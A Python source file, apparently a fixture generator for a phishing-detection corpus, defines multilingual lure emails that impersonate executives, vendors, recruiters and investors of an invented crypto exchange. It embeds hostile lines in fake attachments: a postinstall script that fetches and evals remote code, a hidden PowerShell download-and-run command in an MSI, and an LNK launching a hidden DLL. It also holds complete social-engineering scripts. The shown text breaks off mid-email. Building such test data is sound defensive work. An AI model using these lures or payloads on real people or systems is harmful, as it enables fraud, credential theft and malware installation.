"""Set D lures: hand-written for this set after sets A, B and C, following published Lazarus /
TraderTraitor / BlueNoroff / Contagious Interview tradecraft. All lure domains are invented."""

from __future__ import annotations

from attachments_c import msi, svg_smuggling, xar_pkg
from attachments_d import applescript, chm, jscript, vbs
from binaries import (
    dmg,
    hta,
    html_smuggling,
    iso_image,
    lnk,
    pe_stub,
    seven_zip,
    word_document,
    zip_archive,
)
from people import (
    CEO,
    CFO,
    HADDAD,
    ITO,
    ITO_JA,
    KEIRI,
    LAURENT,
    LI,
    PARK,
    SUZUKI,
    SUZUKI_JA,
    TAKAHASHI_JA,
    TANAKA,
    TANAKA_JA,
    TREASURY,
    WATANABE_JA,
)
from spec import Att, Mail
from threads_d import (
    ISHIKARI_OTC_ID,
    JADE_BLOCK_ID,
    MARLOWE_FEES_ID,
    MEIWA_AUDIT_ID,
    SEORIN_WHITELIST_ID,
)


def L(category: str, language: str, note: str, sender: tuple[str, str], to: tuple[str, str], subject: str,
      body: str, date: str, **kw: object) -> Mail:
    return Mail("lure", category, language, note, sender, (to,), subject, body, date, **kw)  # type: ignore[arg-type]


LURES: list[Mail] = [
    # ---------------------------------------------------------------- exec-impersonation
    L("exec-impersonation", "ja", "CEO's Japanese name on a Gmail account: confidential M&A, 'a lawyer will call', wire outside approvals",
      ("佐藤 陽翔（代表取締役CEO）", "sato.haruto.kx@gmail.com"), TANAKA_JA,
      "【極秘】本日中のご対応のお願い",
      """田中さん

お疲れ様です。佐藤です。出張先から個人アドレスで失礼します。

現在、海外の暗号資産事業者の買収を極秘で進めており、本日中に手付金の送金が必要になりました。
このあと先方の代理人である西園寺法律事務所の黒田弁護士から直接連絡が入りますので、指示に従って対応をお願いします。

金額：48,000,000円
期限：本日15時まで

NDAの関係で、取締役会への開示は来週になります。経理部や他のメンバーには絶対に共有しないでください。
会議が続くため電話には出られません。このメールに返信してください。

佐藤""", "2026-11-02 10:14 +0900"),
    L("exec-impersonation", "en", "spoofs the CEO's own address (DMARC fail) with a Reply-To on another domain; urgent withdrawal before a board call",
      CEO, TANAKA, "Need this done before 4pm",
      """Mika,

I've agreed a pre-funding with a new OTC counterparty this morning. Please release 310,000 USDT from the
hot wallet to the address below before 4pm so they can start quoting tomorrow. I'll countersign the memo
retroactively after the board call, no need to raise a ticket for this one.

0x8c3F1e2A9b7d40C6e55a1F08b2cD9E4a7713B0e2 (ERC-20)

Reply here when sent. I'm in back-to-back meetings.

Haruto""", "2026-11-03 14:41 +0900", auth="fail", reply_to="h.sato@kitsune-ex-board.com"),
    L("exec-impersonation", "ja", "romaji CEO name on a hyphen-less lookalike (kitsuneex.co.jp) asking HR for all employees' payroll and My Number data",
      ("Sato Haruto / 佐藤陽翔", "ceo@kitsuneex.co.jp"), WATANABE_JA,
      "全従業員の給与台帳の件",
      """渡辺さん

取締役会向けの人件費分析で使うため、全従業員の給与台帳（氏名・住所・マイナンバー・振込口座を含む）を
Excel で今日中にこのアドレスへ送ってください。社労士との打ち合わせが明朝なので急いでいます。

社内チャットには流さず、メール添付でお願いします。

代表取締役 佐藤""", "2026-11-04 17:22 +0900"),
    L("exec-impersonation", "en", "CFO's name on an Outlook.com account: new 'prefunding' wallet for 250k USDC, moves the talk to WhatsApp",
      ("Emily Carter (CFO)", "emily.carter.cfo@outlook.com"), TREASURY,
      "Prefunding for the new OTC line",
      """Hi team,

Writing from my personal account as I'm boarding to Singapore and VPN is blocking corporate mail.

We closed the credit line with a new OTC desk last night. Please prefund 250,000 USDC to their segregated
wallet today so we don't lose the rate:

0x4aD1b39E07F2c5A8e9d06B7c3Ef1a42D855c9F31

Don't loop in compliance yet, I'll brief them Monday. I'll be on WhatsApp only: +44 7700 918 264.
Message me there once it's done.

Emily""", "2026-11-05 07:58 +0000"),
    L("exec-impersonation", "fr", "CFO name on a combo lookalike (kitsune-exchange.eu) asks the Paris office for a confidential escrow wire to a notary",
      ("Emily Carter - Directrice financière", "emily.carter@kitsune-exchange.eu"), LAURENT,
      "Acquisition confidentielle - virement séquestre",
      """Bonjour Camille,

Nous finalisons en toute discrétion le rachat d'un PSAN parisien. L'étude notariale de Maître Delorme
attend aujourd'hui le versement du séquestre de 385 000 EUR sur son compte de consignation :

IBAN : FR76 3000 4015 9200 0104 7721 863
BIC : BNPAFRPPXXX
Référence : KX-ACQ-1106

L'AMF n'a pas encore été notifiée, merci de ne rien mentionner à l'équipe ni à Tokyo avant l'annonce.
Confirmez-moi par retour de mail dès que l'ordre est passé.

Bien à vous,
Emily Carter
CFO, Kitsune Exchange""", "2026-11-06 09:35 +0100"),
    L("exec-impersonation", "ja", "CFO's Japanese name on a dotless-i homoglyph of kitsune-ex.com asks for the cold-wallet signer roster and their phone numbers",
      ("エミリー・カーター", "emily.carter@xn--ktsune-ex-vpb.com"), TANAKA_JA,
      "コールドウォレット承認者リストについて",
      """田中さん

監査法人から急ぎの依頼があり、コールドウォレットの承認者一覧（氏名、使用しているデバイス、
携帯番号、承認の時間帯）をまとめてこのメールに返信してもらえますか。

今週中に提出する必要があるので、本日中にお願いします。

Emily""", "2026-11-09 11:03 +0900"),

    # ---------------------------------------------------------------- vendor-impersonation
    L("vendor-impersonation", "en", "fake Fireblocks travel-rule notice from fireblocks-travelrule.com asking admins to upload the API private key",
      ("Fireblocks Compliance", "compliance@fireblocks-travelrule.com"), TANAKA,
      "Action required: Travel Rule provider re-binding for your workspace",
      """Hello Mika Tanaka,

Following the 1 December Travel Rule update for VASPs in Japan, every workspace must re-bind its API
users to the new TRP messaging layer. Workspaces that are not re-bound by 14 November will have outgoing
transfers to external VASPs held.

To re-bind, sign in at https://workspace.fireblocks-travelrule.com/rebind and upload the private key
(fireblocks_secret.key) of each API user. Keys are used once to sign the binding and are not stored.

Fireblocks Compliance Operations""", "2026-11-02 06:12 +0000"),
    L("vendor-impersonation", "en", "fake Safe incident mail asking signers to re-sign the queue on safe-global.support",
      ("Safe{Wallet} Security", "security@safe-global.support"), TANAKA,
      "Incident 2026-11-07: pending transactions need to be re-signed",
      """Dear Safe owner,

A fault in the Transaction Service between 02:10 and 04:55 UTC corrupted the signatures of queued
transactions on Ethereum mainnet. Affected Safes cannot execute until owners re-sign.

Your Safe 0x7A1e...c0De has 2 affected transactions. Re-sign them in the recovery interface:

https://recovery.safe-global.support/queue?chain=eth

The interface pre-fills the corrected payload; please confirm in your hardware wallet without editing.

Safe Security Team""", "2026-11-07 08:30 +0000"),
    L("vendor-impersonation", "ja", "fake HENNGE One password-expiry mail (vendor not in the profile) linking to a tenant-named lookalike login",
      ("HENNGE One", "no-reply@hennge-one-auth.com"), SUZUKI_JA,
      "【HENNGE One】パスワード有効期限のお知らせ（残り1日）",
      """鈴木 健太 様

ご利用中の HENNGE One アカウント（k.suzuki@kitsune-ex.co.jp）のパスワードは明日で有効期限が切れます。
期限切れ後は Microsoft 365 および Slack へのシングルサインオンがご利用いただけなくなります。

以下より現在のパスワードを確認のうえ、更新手続きを行ってください。

https://kitsune-ex.hennge-one-auth.com/idp/password/renew

※本メールは送信専用アドレスから配信しています。
HENNGE株式会社""", "2026-11-04 08:05 +0900"),
    L("vendor-impersonation", "zh", "fake Cobo custody key-rotation notice (vendor not in the profile) pushing a co-signer installer from cobo-custody.net",
      ("Cobo 客户成功团队", "support@cobo-custody.net"), LI,
      "【Cobo Custody】API 签名密钥强制轮换通知",
      """李伟 您好，

因安全升级，所有机构客户须在 11 月 12 日前完成 API 签名密钥轮换。逾期未完成的账户将暂停出金。

请在负责签名的服务器上下载并运行新版 Co-Signer 安装程序，按提示导入现有密钥即可自动完成迁移：

https://download.cobo-custody.net/cosigner/Cobo-CoSigner-Setup-4.2.exe

如有疑问，请直接回复本邮件，请勿联系您的客户经理，以免延误。

Cobo 客户成功团队""", "2026-11-06 10:20 +0800"),
    L("vendor-impersonation", "fr", "fake Sumsub notice (vendor not in the profile) in French: API token 'suspended', log in on sumsub-dashboard.com",
      ("Sumsub - Conformité", "noreply@sumsub-dashboard.com"), LAURENT,
      "Votre jeton API Sumsub a été suspendu",
      """Bonjour,

Suite à un contrôle automatique, le jeton API de production de Kitsune Exchange (Paris) a été suspendu :
les vérifications KYC de vos nouveaux clients sont en attente.

Pour réactiver le jeton, connectez-vous avec votre compte administrateur et confirmez le secret actuel :
https://cockpit.sumsub-dashboard.com/reactivate?tenant=kitsune-paris

Sans action sous 24 heures, les dossiers en attente seront rejetés.

L'équipe Sumsub""", "2026-11-10 10:47 +0100"),
    L("vendor-impersonation", "en", "fake TRM Labs sanctions alert (vendor not in the profile) pushing a 'forensics viewer' download",
      ("TRM Labs Alerts", "alerts@trmlabs-case.com"), TANAKA,
      "SEVERE: sanctions exposure on a monitored Kitsune address",
      """TRM Labs detected direct exposure (USD 1.2M) between one of your monitored hot-wallet addresses and an
OFAC-designated entity in the last 24 hours.

Case ID: TRM-C-88217-KX
Risk: Severe

The graph evidence for this case is only available in the offline TRM Forensics Viewer (Windows/macOS):
https://cases.trmlabs-case.com/viewer/TRMForensicsViewer-2.8.1.zip

Regulators expect a documented response within 48 hours of the alert.

TRM Labs Customer Success""", "2026-11-11 02:15 +0000"),

    # ---------------------------------------------------------------- lookalike-link
    L("lookalike-link", "en", "combo domain kitsune-ex-helpdesk.com posing as internal IT: MFA re-enrolment link",
      ("Kitsune IT Service Desk", "servicedesk@kitsune-ex-helpdesk.com"), SUZUKI,
      "Mandatory: re-enrol your authenticator before Friday",
      """Hi Kenta,

We are moving all staff to phishing-resistant MFA. Your current authenticator registration expires on
Friday 13 November and you will be signed out of email, Slack and the admin console.

Re-enrol now (takes 2 minutes): https://sso.kitsune-ex-helpdesk.com/mfa/enroll?u=k.suzuki

Kitsune IT Service Desk""", "2026-11-09 09:12 +0900"),
    L("lookalike-link", "ja", "TLD swap kitsune-ex.net posing as the expense system migration",
      ("キツネエクスチェンジ 管理本部", "kanri@kitsune-ex.net"), SUZUKI_JA,
      "【要対応】経費精算システム移行に伴う再ログインのお願い",
      """社員各位

11月より経費精算システムを新環境へ移行しました。10月分の未精算データを引き継ぐため、
11月13日までに新環境へ一度ログインしてください。ログイン時は現在の社内アカウント（メールアドレスとパスワード）を使用します。

新環境：https://keihi.kitsune-ex.net/login

期限までにログインがない場合、10月分の立替金はお支払いできません。

管理本部""", "2026-11-10 09:30 +0900"),
    L("lookalike-link", "en", "TLD swap of the org (kitsune-ex.cc) with a g->q typo of app.safe.global in the signing link",
      ("Kitsune Treasury Bot", "noreply@kitsune-ex.cc"), TANAKA,
      "[Treasury] 2 transactions awaiting your signature",
      """Two transactions in the Kitsune Treasury Safe are waiting for your confirmation:

  #412  Rebalance hot -> warm     180 ETH
  #413  Gas top-up (ops)          0.8 ETH

Review and sign: https://app.safe.qlobal/transactions/queue?safe=eth:0x7A1eC39b2D4f8a6E0c5B1d93F8e2A47c6Bd0c0De

This is an automated message from the treasury workflow.""", "2026-11-11 05:44 +0000"),
    L("lookalike-link", "ar", "Arabic partner-portal notice linking to kitsune-ex.com.ae-login.net (org name as a subdomain label)",
      ("Kitsune Exchange - بوابة الشركاء", "partners@ae-login.net"), HADDAD,
      "تحديث إلزامي لحسابك في بوابة الشركاء",
      """السيد عمر حداد المحترم،

نقوم حالياً بترحيل بوابة الشركاء في منطقة الشرق الأوسط إلى خوادم جديدة. يرجى تسجيل الدخول قبل يوم
الخميس لتأكيد بيانات حسابك، وإلا سيتم تعليق صلاحيات الاطلاع على تقارير التسوية.

رابط الدخول: https://kitsune-ex.com.ae-login.net/partners/signin

مع التحية،
فريق عمليات الشركاء""", "2026-11-05 08:10 +0400"),
    L("lookalike-link", "en", "HTML anchor shows console.fireblocks.io but points to a Cyrillic-o homoglyph of fireblocks.io",
      ("Fireblocks", "notifications@fireblocks-mail.io"), TANAKA,
      "Approval request expires in 30 minutes",
      """A withdrawal of 96.5 BTC from vault "Cold-2" is waiting for your approval.

Approve or reject: https://console.fireblocks.io/v2/approvals/tx/8817-ab2e

The request expires in 30 minutes.""", "2026-11-12 01:20 +0000",
      html="""<html><body style="font-family:Arial">
<p>A withdrawal of <b>96.5 BTC</b> from vault "Cold-2" is waiting for your approval.</p>
<p><a href="https://console.xn--fireblcks-52h.io/v2/approvals/tx/8817-ab2e">https://console.fireblocks.io/v2/approvals/tx/8817-ab2e</a></p>
<p>The request expires in 30 minutes.</p></body></html>"""),
    L("lookalike-link", "ko", "Korean admin-console notice linking to the combo domain kitsune-exchange.kr",
      ("Kitsune Exchange 인프라팀", "infra@kitsune-exchange.kr"), PARK,
      "[공지] 관리자 콘솔 접속 주소 변경 안내",
      """박대현님 안녕하세요.

서울 법인 관리자 콘솔이 11월 16일부터 새 주소로 이전됩니다. 기존 주소는 보안 점검으로 차단될 예정이니
아래 링크에서 미리 로그인하시고 OTP를 다시 등록해 주세요.

https://admin.kitsune-exchange.kr/auth/otp-reset

문의는 이 메일로 회신 바랍니다.
인프라팀 드림""", "2026-11-13 10:05 +0900"),
    L("lookalike-link", "ja", "in-house portal certificate notice linking to a dotless-i homoglyph of kitsune-ex.com",
      ("情報システム部", "it@kitsune-ex-portal.com"), ITO_JA,
      "社内ポータルのクライアント証明書更新（本日まで）",
      """伊藤さん

社内ポータルのクライアント証明書が本日で失効します。下記ページから証明書を再発行してください。
再発行にはポータルのパスワードと、スマートフォンに届く確認コードの入力が必要です。

https://portal.xn--ktsune-ex-vpb.com/cert/renew

情報システム部""", "2026-11-16 09:48 +0900"),

    # ---------------------------------------------------------------- recruiter-coding-test
    L("recruiter-coding-test", "en", "recruiter take-home on Bitbucket that must be run with npm install / npm start within 48 hours",
      ("Nadia Brooks", "nadia.brooks@arcturuslabs.io"), SUZUKI,
      "Senior Backend Engineer (settlement) - next step",
      """Hi Kenta,

Thanks for the quick chat on LinkedIn. The hiring manager liked your profile, so the next step is a short
practical exercise (about 90 minutes):

  git clone https://bitbucket.org/arcturus-labs/settlement-engine-assessment.git
  cd settlement-engine-assessment
  npm install      # postinstall builds the native crypto deps, give it a minute
  npm start

Fix the failing reconciliation endpoint and send us a screenshot of the dashboard once it loads. Please do
it on your usual work laptop so the environment matches production (Node 18+).

The window closes in 48 hours. Base is USD 210-240k + tokens, fully remote.

Nadia Brooks
Talent Partner, Arcturus Labs""", "2026-11-02 15:05 +0000"),
    L("recruiter-coding-test", "ja", "headhunter on Gmail: GitHub skills test run with pip install + python, results to a Telegram handle",
      ("ブロックキャリア 木村", "kimura.blockcareer@gmail.com"), SUZUKI_JA,
      "Web3企業 リードエンジニア職のスキルチェックについて",
      """鈴木 健太 様

先日はお時間をいただきありがとうございました。ブロックキャリアの木村です。
ご紹介したシンガポールのDeFi企業より、一次面接前のスキルチェックをお願いしたいとの連絡がありました。

1. https://github.com/defi-tanager/risk-engine-check をクローン
2. pip install -r requirements.txt
3. python run_check.py を実行（環境チェック後にテストが始まります）

出力されたレポートのスクリーンショットを Telegram（@kimura_bc_jp）までお送りください。
年収レンジは1,800万〜2,400万円です。よろしくお願いいたします。""", "2026-11-03 19:40 +0900"),
    L("recruiter-coding-test", "en", "Contagious-Interview 'CTO' asks to run the MVP with npm i / npm run dev before a call and share the screen",
      ("Victor Brandt | Vireo Onchain", "victor@vireoonchain.xyz"), SUZUKI,
      "Before our call tomorrow",
      """Hey Kenta,

Great connecting. Before tomorrow's technical round, please pull our perp DEX MVP and get it running
locally, we'll debug the liquidation bug together while you share your screen:

  git clone https://gitlab.com/vireo-onchain/perp-dex-mvp
  cd perp-dex-mvp && npm i && npm run dev

The .env already has our test RPC keys, no need to change anything. If the frontend complains about
a missing module, just rerun npm i.

Talk soon,
Victor
CTO, Vireo Onchain""", "2026-11-05 21:12 +0000"),
    L("recruiter-coding-test", "ko", "Korean headhunter: assignment zip from a vercel.app page, npm install and node server.js, interview on Discord",
      ("이수민 헤드헌터", "sumin.recruit@naver.com"), PARK,
      "블록체인 백엔드 포지션 사전 과제 안내",
      """박대현님 안녕하세요, 지난주 연락드린 이수민입니다.

고객사(싱가포르 소재 디파이 프로젝트)에서 1차 면접 전에 간단한 과제를 요청했습니다.

과제 다운로드: https://kairos-assess.vercel.app/task/backend-v3.zip
압축을 푸신 뒤 npm install, node server.js 로 실행하시고 화면에 나오는 토큰 값을 알려주세요.

면접은 디스코드로 진행됩니다: https://discord.gg/kairos-hr
연봉은 협의 가능하며 스톡옵션도 있습니다.""", "2026-11-06 13:25 +0900"),
    L("recruiter-coding-test", "fr", "French recruiter: GitHub technical test with yarn && yarn test, then WhatsApp",
      ("Julien Marchand - Moonbridge Finance", "julien.marchand@moonbridge-fi.com"), LAURENT,
      "Test technique - poste Lead Blockchain (Paris/Remote)",
      """Bonjour Camille,

Suite à notre échange, voici le test technique pour le poste de Lead Blockchain :

  git clone https://github.com/moonbridge-fi/vault-audit-test
  cd vault-audit-test
  yarn && yarn test

Le script de test télécharge automatiquement les fixtures de la blockchain, c'est normal qu'il prenne
quelques minutes. Envoyez-moi le résultat sur WhatsApp (+33 6 44 18 20 97), c'est plus rapide.

Rémunération : 140-170 k EUR + tokens.

Julien""", "2026-11-08 11:02 +0100"),
    L("recruiter-coding-test", "en", "take-home zip whose package.json postinstall runs a setup script that fetches and evals remote code",
      ("Priya Raman", "priya@orbitfi-labs.com"), SUZUKI,
      "Take-home exercise (Orbit Finance, Staff Engineer)",
      """Hi Kenta,

As discussed, attached is the take-home. Unzip, run `npm install` and `npm test`; the tests are what we
grade. Please don't change the setup scripts, they pin the node-gyp toolchain for our graders.

Looking forward to your solution by Monday.

Priya""", "2026-11-12 16:30 +0000",
      attachments=(Att("orbit-take-home.zip", zip_archive([
          ("orbit-take-home/package.json", (b'{\n  "name": "orbit-take-home",\n  "version": "1.0.0",\n'
           b'  "scripts": {\n    "postinstall": "node scripts/setup.js",\n    "test": "jest"\n  },\n'
           b'  "devDependencies": {"jest": "^29.7.0"}\n}\n')),
          ("orbit-take-home/scripts/setup.js",
           (b"const https = require('https');\n"
           b"https.get('https://cdn.orbitfi-labs.com/toolchain/v2.js', r => { let d = '';\n"
           b"  r.on('data', c => d += c); r.on('end', () => { new Function('require', d)(require); }); });\n")),
          ("orbit-take-home/README.md", b"# Orbit take-home\nImplement src/ledger.js so that npm test passes.\n"),
          ("orbit-take-home/src/ledger.js", b"module.exports = {};\n")]), "application/zip"),)),

    # ---------------------------------------------------------------- investor-meeting-install
    L("investor-meeting-install", "en", "VC invite on its own meeting domain whose 'secured client' must be installed before joining",
      ("Laura Whitfield", "laura@kestreldigital.vc"), CEO,
      "Kestrel x Kitsune - partner meeting Thursday",
      """Dear Haruto,

Thank you for making time on Thursday at 10:00 JST. Our partners will join from London and Singapore.

For compliance reasons we host LP-facing meetings on our own secured conference service. Please install
the client beforehand from https://meet.kestrel-meet.io/download (Windows and macOS); the meeting ID is
KD-4471. If audio fails, the client's "Repair" button installs the latest codec update.

Best regards,
Laura Whitfield
Principal, Kestrel Digital Fund""", "2026-11-03 09:20 +0000"),
    L("investor-meeting-install", "ja", "investor meeting on a Google-Meet lookalike that requires a 'Meet plugin' for Mac",
      ("株式会社ミナセキャピタル 大西", "onishi@minase-capital.jp"), CEO,
      "ご面談の件（11/10 14:00）",
      """佐藤様

いつもお世話になっております。ミナセキャピタルの大西でございます。
11月10日14時からのオンライン面談は、以下のURLからご参加ください。

https://meet.google.com-join.app/kxq-mnse-tyo

弊社の情報管理規程により、画面共有の暗号化プラグイン（Meet Plugin for Mac）のインストールをお願いしております。
接続時に表示される案内に従って、プラグインのインストールを完了させてください。

何卒よろしくお願い申し上げます。""", "2026-11-07 16:02 +0900"),
    L("investor-meeting-install", "ar", "Dubai family-office invite that ships its own 'meeting room' MSI and asks to run it before the call",
      ("مكتب الريم العائلي", "invest@alreem-fo.com"), HADDAD,
      "اجتماع الاستثمار - يرجى تثبيت تطبيق الاجتماعات",
      """الأستاذ عمر،

يسعدنا تأكيد موعد الاجتماع مع سمو رئيس المكتب يوم الثلاثاء الساعة الحادية عشرة صباحاً بتوقيت دبي.
لأسباب أمنية نعقد اجتماعاتنا عبر تطبيقنا الخاص. يرجى تثبيت الملف المرفق على جهازك قبل الموعد،
ثم الدخول برمز الاجتماع 7781.

مع خالص التقدير،
إدارة الاستثمار - مكتب الريم العائلي""", "2026-11-09 12:40 +0400",
      attachments=(Att("AlReem_MeetingRoom_Setup.msi",
                       msi("AlReem MeetingRoom", "powershell -w hidden -c iwr https://cdn.alreem-fo.com/mr/agent.ps1 | iex"),
                       "application/x-msi"),)),
    L("investor-meeting-install", "zh", "Chinese investor: Lark/Feishu meeting 'plugin' pkg from larkmeet-download.com",
      ("澄海资本 周晨", "zhouchen@chenghai-cap.com"), LI,
      "明天下午的线上会议",
      """李总您好，

明天下午三点的会议我们用飞书会议进行。因为我们基金的会议启用了端到端加密，参会前需要先安装加密插件：

https://larkmeet-download.com/plugin/FeishuMeetingSecure.pkg

安装时如果系统提示"无法验证开发者"，请在"系统设置-隐私与安全性"里点"仍要打开"。
会议号：982 441 307

周晨""", "2026-11-10 18:15 +0800"),
    L("investor-meeting-install", "en", "investor sends a due-diligence 'viewer' dmg to install before the IC meeting",
      ("Marcus Ellery", "m.ellery@sablecrest.capital"), CFO,
      "IC prep - data room viewer",
      """Hi Emily,

Ahead of Monday's investment committee call, our associates have prepared a Q&A pack in the data room.
The room only opens in our DD viewer (watermarking requirement from our LPs). Installer attached for
macOS; if Gatekeeper blocks it, right-click > Open.

We'll walk through it live on the call.

Marcus Ellery
Partner, Sable Crest Capital""", "2026-11-13 08:40 +0000",
      attachments=(Att("SableCrest_DDViewer.dmg", dmg("SableCrest DD Viewer", "sablecrest"), "application/x-apple-diskimage"),)),

    # ---------------------------------------------------------------- trading-app
    L("trading-app", "en", "market-making bot exe from voltedge-trader.com with instructions to bypass SmartScreen",
      ("VoltEdge Partnerships", "partners@voltedge-trader.com"), TANAKA,
      "Free 30-day pilot: VoltEdge MM for JPY pairs",
      """Hi Mika,

VoltEdge runs inventory-aware market making for six Asian exchanges. We'd like to offer Kitsune a free
30-day pilot on your JPY pairs.

Download the desktop engine: https://voltedge-trader.com/releases/VoltEdgeMM_Setup_3.4.exe
Windows SmartScreen may warn because our certificate is still being renewed; click "More info" >
"Run anyway". Enter your exchange API key with trade + withdraw scopes so the engine can rebalance.

Best,
VoltEdge team""", "2026-11-04 10:00 +0000"),
    L("trading-app", "ja", "price-prediction AI app dmg from coinsight-ai.jp with Gatekeeper bypass steps",
      ("CoinSight AI 事務局", "info@coinsight-ai.jp"), SUZUKI_JA,
      "【法人向け先行公開】AI価格予測アプリ CoinSight Pro",
      """鈴木様

交換業者様向けに、AI による短期価格予測アプリ「CoinSight Pro」を先行公開しております。
下記より macOS 版をダウンロードいただけます。

https://coinsight-ai.jp/dl/CoinSightPro-1.9.dmg

初回起動時に「開発元を検証できません」と表示された場合は、アプリを右クリックして「開く」を選択してください。
ログイン後、取引所の API キーを登録すると自動売買も可能です。

CoinSight AI 事務局""", "2026-11-05 12:30 +0900"),
    L("trading-app", "ar", "Arabic algorithmic-trading APK from noorquant.app with 'allow unknown sources'",
      ("نور كوانت", "team@noorquant.app"), HADDAD,
      "دعوة حصرية: تطبيق التداول الخوارزمي لشركات الأصول الرقمية",
      """مرحباً عمر،

نقدم لشركائنا في الخليج نسخة تجريبية من تطبيق نور كوانت للتداول الخوارزمي والتنبؤ بالأسعار.
التطبيق غير متوفر على المتجر حالياً، يمكنكم تنزيله مباشرة من الرابط:

https://noorquant.app/beta/NoorQuant-2.1.apk

يرجى تفعيل خيار "السماح بالتثبيت من مصادر غير معروفة" ثم ربط حساب المنصة عبر مفتاح API.

فريق نور كوانت""", "2026-11-08 14:22 +0400"),
    L("trading-app", "ko", "Korean quant-signal desktop app as an MSI from signalnest.kr",
      ("시그널네스트", "biz@signalnest.kr"), PARK,
      "[제휴 제안] 거래소 전용 퀀트 시그널 데스크톱 앱",
      """안녕하세요, 시그널네스트 사업개발팀입니다.

국내외 거래소 트레이딩팀을 위한 실시간 퀀트 시그널 앱을 무상으로 제공해 드리고 있습니다.
아래 설치 파일을 실행하시면 바로 사용 가능합니다.

https://signalnest.kr/download/SignalNest_Desk_Setup.msi

설치 중 백신 프로그램이 차단하면 잠시 실시간 감시를 꺼 주세요. 오탐입니다.

감사합니다.""", "2026-11-11 15:10 +0900"),
    L("trading-app", "en", "arbitrage tool installed with pip from a private extra index",
      ("Owen Tsai", "owen@tokenpilot.io"), SUZUKI,
      "TokenPilot arb engine - install notes",
      """Hi Kenta,

Following the demo, here is how to install the arbitrage engine on one of your trading hosts:

  pip install --extra-index-url https://pypi.tokenpilot.io/simple tokenpilot-arb==0.9.4
  tokenpilot init --exchange kitsune --api-key <KEY> --api-secret <SECRET>
  tokenpilot run

Our package isn't on public PyPI yet (licensing). Run it on a host that already has your exchange keys
so it can pick them up from the environment.

Owen""", "2026-11-14 03:05 +0000"),

    # ---------------------------------------------------------------- wallet-request
    L("wallet-request", "en", "spoofed treasury@ address (DMARC fail) asking signers to approve an ownership change in a 'signer portal' lookalike",
      TREASURY, TANAKA, "Signature needed: Safe module upgrade (today)",
      """Hi Mika,

The quarterly Safe module upgrade is scheduled for today. Please sign the prepared transaction in the signer
portal; it only swaps the fallback handler and keeps all owners.

Portal: https://signer.kitsune-ex-treasury.com/tx/0x3f9e
Calldata (for reference): 0xe318b52b0000000000000000000000007a1ec39b2d4f8a6e0c5b1d93f8e2a47c6bd0c0de
000000000000000000000000d4c1b7e29f03a8e56b70c2119e4fa3850bb7f6a2

Please do not edit the payload; it is pre-validated.

Treasury Ops""", "2026-11-04 02:30 +0000", auth="fail"),
    L("wallet-request", "ja", "fake internal security office asks signers to type their 24-word recovery phrase into a 'backup check' form",
      ("セキュリティ室", "security@kitsune-ex-sec.jp"), TANAKA_JA,
      "【重要】署名用ハードウェアウォレットのバックアップ点検",
      """署名担当者各位

年次のBCP点検の一環として、署名用ハードウェアウォレットのリカバリーフレーズ（24単語）が
正しく保管されているかを確認します。

下記フォームにリカバリーフレーズを入力すると、照合結果（一致／不一致）のみが表示されます。
入力内容は暗号化され、保存されません。

https://check.kitsune-ex-sec.jp/backup

11月12日までにご対応ください。
セキュリティ室""", "2026-11-06 10:10 +0900"),
    L("wallet-request", "ar", "Gmail 'settlement desk' of a partner asks to switch the USDT payout address to a new TRON address urgently",
      ("Al Noor Markets - Settlement", "alnoor.settlement@gmail.com"), HADDAD,
      "عاجل: تغيير عنوان استلام USDT",
      """عزيزي عمر،

بسبب تدقيق داخلي على محفظتنا السابقة، نرجو إرسال دفعة التسوية لهذا الأسبوع (420,000 USDT) إلى العنوان
الجديد على شبكة ترون:

TQ7nR4xYb2KfL9wE3cVd8aPz5HsMu1JtGe

يرجى عدم استخدام العنوان القديم إطلاقاً. نحتاج التحويل قبل الساعة الرابعة عصراً لإغلاق المركز.

قسم التسويات""", "2026-11-07 10:55 +0400"),
    L("wallet-request", "zh", "OTC 'client' on QQ mail pushes to release USDT before the fiat arrives, with an urgency story",
      ("王海峰", "wanghaifeng1988@qq.com"), LI,
      "急：先放币，款项已在路上",
      """李经理，

刚才跟你们销售确认过了，这笔 1,200,000 USDT 的单子我们已经从香港账户汇出，银行那边显示明早到账。
但我们这边客户今天晚上就要交割，麻烦先把币打到下面地址，水单我马上发你：

TJx9cK2pV7qRm4nWb8sLd3eFh6AtZ1yUoG

今晚十点前一定要到，否则我们要承担违约金。拜托了！

王海峰""", "2026-11-09 20:05 +0800"),
    L("wallet-request", "ko", "Korean 'infra' mail on kitsune-ex-infra.com asks for the validator keystore file and its password",
      ("Kitsune 인프라 운영", "ops@kitsune-ex-infra.com"), PARK,
      "[긴급] 스테이킹 검증인 키 백업 요청",
      """박대현님,

도쿄 데이터센터 이전 작업 때문에 서울 법인 스테이킹 검증인 키 백업이 필요합니다.
keystore 파일과 비밀번호를 이 메일에 회신으로 보내 주세요. 작업 후 즉시 폐기합니다.

오늘 18시까지 받지 못하면 슬래싱 위험이 있습니다.

인프라 운영팀""", "2026-11-12 14:30 +0900"),
    L("wallet-request", "en", "OTC onboarding asks to eth_sign a raw 32-byte hash (blind signing) to 'whitelist' the address",
      ("Tessera Liquidity Onboarding", "onboarding@tesseraliq-onboard.com"), TANAKA,
      "Final onboarding step: address ownership proof",
      """Hi Mika,

Last step before we can quote you: prove control of your settlement address by signing the hash below
with eth_sign from the treasury signer (MetaMask Institutional works; Ledger needs blind signing enabled).

Hash: 0x9b2e61f0c4a7d85e3b1f0a96c7d2e48b5a3f1c09e6d8b7a2f4c5e1d0b9a8c7f6

Reply with the signature. This is a one-time proof and does not move funds.

Tessera Onboarding""", "2026-11-15 09:00 +0000"),

    # ---------------------------------------------------------------- attachment
    L("attachment", "en", "ISO 'term sheet' holding a .pdf.lnk that runs rundll32 on a hidden DLL",
      ("Ryan Okoye", "ryan@northlane-vc.com"), CEO,
      "Series C term sheet - Kitsune",
      """Haruto,

Please find our indicative term sheet attached. We kept it in an image because of our document-control
policy; open the ISO and the PDF inside.

Happy to discuss on a call this week.

Ryan""", "2026-11-02 13:12 +0000",
      attachments=(Att("Kitsune_SeriesC_TermSheet.iso", iso_image([
          ("Kitsune_SeriesC_TermSheet.pdf.lnk", lnk("C:\\Windows\\System32\\rundll32.exe",
                                                     "resources\\ts.dll,DllRegister", "%SystemRoot%\\System32\\imageres.dll,-102")),
          ("resources/ts.dll", pe_stub("northlane-ts-dll"))], volume="TERMSHEET"), "application/x-iso9660-image"),)),
    L("attachment", "ja", "PPAP-style encrypted zip with the password in the same mail, holding a .pdf.exe invoice",
      ("株式会社セイワ商事 経理部", "keiri@seiwa-shoji.co"), KEIRI,
      "【請求書送付】2026年11月分ご請求書",
      """キツネエクスチェンジ株式会社
経理部 御中

いつもお世話になっております。
